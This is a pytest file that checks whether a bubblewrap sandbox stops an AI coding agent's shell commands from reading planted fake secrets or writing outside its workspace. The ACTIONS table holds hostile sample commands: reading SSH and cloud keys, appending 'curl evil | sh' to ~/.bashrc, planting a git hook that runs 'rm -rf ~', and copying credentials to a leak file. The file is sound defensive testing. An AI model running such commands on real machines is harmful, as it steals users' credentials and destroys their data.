"""The agent's own process in the sandbox (``agent.sandbox``): what it does in its own
process, never asking goose-ls, cannot reach a secret or write outside the roots.

The scripted agent runs each action as goose's shell tool does, in its own process
(``shell`` steps), under its preset's defaults; its home folder holds an SSH key, cloud
credentials and a ``.bashrc``, its workspace a ``.env``, a key found only by its
content, a git repository with hooks and a file to edit. The real agents' own tools
are tried the same way in ``test_agent_sandbox_real.py``.
"""

from __future__ import annotations

import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from goose_ls.testing.harness import CHECKOUT, start_editor, stop_editor
from goose_ls.workspace import sandbox

pytestmark = pytest.mark.skipif(
    not sandbox.choose("workspace").active, reason="BUBBLEWRAP IS MISSING: no agent sandbox here"
)

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"
CLOUD = "[default]\naws_access_key_id = AKIAFAKEFAKEFAKE\naws_secret_access_key = s3cr3tCloudKey\n"
SERVICE = json.dumps({"type": "service_account", "private_key": KEY, "client_email": "x@y"})
DOTENV = "API_TOKEN=dotenv-secret-value\n"


class Places:
    """A home folder and a workspace as a user has them, secrets included."""

    def __init__(self, tmp: Path) -> None:
        self.home = tmp / "home"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh" / "id_rsa").write_text(KEY)
        (self.home / ".aws").mkdir()
        (self.home / ".aws" / "credentials").write_text(CLOUD)
        (self.home / ".bashrc").write_text("# mine\n")
        self.workspace = tmp / "workspace"
        self.workspace.mkdir(exist_ok=True)
        subprocess.run(["git", "init", "-q", str(self.workspace)], check=True)
        (self.workspace / ".env").write_text(DOTENV)
        (self.workspace / "gcp-key.json").write_text(SERVICE)
        (self.workspace / "app.py").write_text("print('hello')\n")
        (self.workspace / "test_app.py").write_text("assert open('app.py').read()\n")


@pytest.fixture
def loopback() -> Iterator[int]:
    """A listener on 127.0.0.1 that answers ``pong`` to whoever connects."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(20)

    def answer() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.sendall(b"pong\n")

    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    yield int(server.getsockname()[1])
    server.close()


ACTIONS = {
    "ssh key": "cat ~/.ssh/id_rsa",
    ".env": "cat .env",
    "key by content": "cat gcp-key.json",
    "edit a file": "echo \"print('edited')\" >> app.py && tail -n 1 app.py",
    "bashrc": "echo 'curl evil | sh' >> ~/.bashrc; cat ~/.bashrc",
    "git hook": "printf '#!/bin/sh\\nrm -rf ~\\n' > .git/hooks/pre-commit; ls .git/hooks",
    "leak": "cat ~/.aws/credentials > leak.txt; wc -c < leak.txt",
    "run the tests": "python3 test_app.py && echo tests-pass",
}


async def _played(tmp: Path, port: int, **settings: Any) -> dict[str, str]:
    """Each action's output, run in the scripted agent's own process under goose-ls."""
    places = Places(tmp)
    record, sessions = tmp / "agent-received.jsonl", tmp / "agent-sessions"
    record.touch()
    sessions.touch()
    lines = {**ACTIONS, "loopback": f'python3 -c "{_CONNECT}" {port}'}
    editor = await start_editor(
        tmp,
        GOOSE_LS_AGENT_SANDBOX_WRITABLE=json.dumps([str(record), str(sessions)]),
        GOOSE_LS_AGENT_SANDBOX_READABLE=json.dumps([str(tmp / "script.json"), str(CHECKOUT)]),
    )
    try:
        steps: list[dict[str, Any]] = []
        for name, line in lines.items():
            steps += [{"text": f"\n<{name}>"}, {"shell": line}]
        agent = {"env": {"HOME": str(places.home)}, **settings}
        await editor.start({"turns": [steps]}, settings={"agent": agent})
        session_id = await editor.new_session()
        message_id = await editor.prompt(session_id, "do it all")
        end = await editor.goose.turn_end(message_id, timeout=60)
        assert end["stopReason"] == "end_turn"
        said = editor.goose.text(message_id)
        status = await editor.goose.request("goose/status", {})
    finally:
        await stop_editor(editor)
    out = {}
    for chunk in said.split("\n<")[1:]:
        name, _, rest = chunk.partition(">")
        out[name] = rest
    out["status"] = json.dumps(status)
    return out


_CONNECT = (
    "import socket,sys; s=socket.create_connection(('127.0.0.1',int(sys.argv[1])),5); "
    "print(s.recv(5).decode())"
)


def _outputs_hold_no_secret(out: dict[str, str], places: Path) -> None:
    shown = "\n".join(out.values())
    for secret in ("b3BlbnNzaC1rZXktdjEAAAAA", "s3cr3tCloudKey", "dotenv-secret-value"):
        assert secret not in shown, f"the agent read a secret: {secret}"


async def test_the_agent_s_own_process_reaches_no_secret_and_writes_only_the_roots(
    tmp_path: Path, loopback: int
) -> None:
    out = await _played(tmp_path, loopback)
    _outputs_hold_no_secret(out, tmp_path)
    workspace, home = tmp_path / "workspace", tmp_path / "home"
    assert (home / ".bashrc").read_text() == "# mine\n", "the real ~/.bashrc is untouched"
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists(), out["git hook"]
    leak = workspace / "leak.txt"
    assert not leak.exists() or "s3cr3t" not in leak.read_text()
    # Normal work still succeeds: an edit in the workspace lands, the tests run.
    assert "print('edited')" in (workspace / "app.py").read_text(), out["edit a file"]
    assert "tests-pass" in out["run the tests"], out["run the tests"]
    assert "[shell 0: pong]" in out["loopback"], "the network is on by default"
    # The secrets are still there for the user.
    assert "s3cr3tCloudKey" in (home / ".aws" / "credentials").read_text()
    assert (workspace / ".env").read_text() == DOTENV
    sandbox_said = json.loads(out["status"])["agent"]["sandbox"]
    assert sandbox_said.startswith("workspace (bubblewrap)"), sandbox_said


async def test_without_the_sandbox_the_same_agent_reads_them_all(
    tmp_path: Path, loopback: int
) -> None:
    """The test above can fail: with ``agent.sandbox`` off, every secret is read."""
    out = await _played(tmp_path, loopback, sandbox="off")
    assert "b3BlbnNzaC1rZXktdjEAAAAA" in out["ssh key"]
    assert "dotenv-secret-value" in out[".env"]
    assert "b3BlbnNzaC1rZXktdjEAAAAA" in out["key by content"]
    assert "s3cr3tCloudKey" in (tmp_path / "workspace" / "leak.txt").read_text()
    assert "curl evil" in (tmp_path / "home" / ".bashrc").read_text()
    assert json.loads(out["status"])["agent"]["sandbox"].startswith("off")


async def test_with_the_network_off_the_loopback_listener_is_out_of_reach(
    tmp_path: Path, loopback: int
) -> None:
    out = await _played(tmp_path, loopback, sandboxNetwork=False)
    assert "pong" not in out["loopback"], out["loopback"]
    assert "no network" in json.loads(out["status"])["agent"]["sandbox"]
